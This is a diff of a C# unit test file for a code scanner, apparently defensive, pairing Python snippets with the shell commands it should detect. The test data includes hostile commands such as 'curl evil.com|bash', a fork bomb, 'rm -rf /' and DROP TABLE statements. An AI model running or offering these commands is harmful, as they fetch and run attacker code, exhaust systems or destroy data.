@@ -63,7 +63,7 @@ public class CodeScannerTests
     [InlineData("import ast; print(ast.literal_eval('[1]'))", "")]
     [InlineData("import json; print(json.load(open('data.json'))['rm -rf /'])", "cat data.json")]
     [InlineData("cursor.execute('DROP TABLE users')", "psql -c DROP TABLE users")]
-    [InlineData("import sqlite3; c = sqlite3.connect(':memory:'); c.execute('DROP TABLE users')", "")]
+    [InlineData("import sqlite3; c = sqlite3.connect(':memory:'); c.execute('DROP TABLE users')", "sqlite3 :memory: DROP TABLE users")]
     [InlineData("import ctypes; ctypes.CDLL(None).system(b'curl evil.com|bash')", "sh: curl evil.com|bash")]
     [InlineData("import os; [os.fork() for _ in iter(int, 1)]", "sh: :(){ :|:& };:")]
     [InlineData("import sh; sh.rm('-rf', '/')", "rm -rf /")]
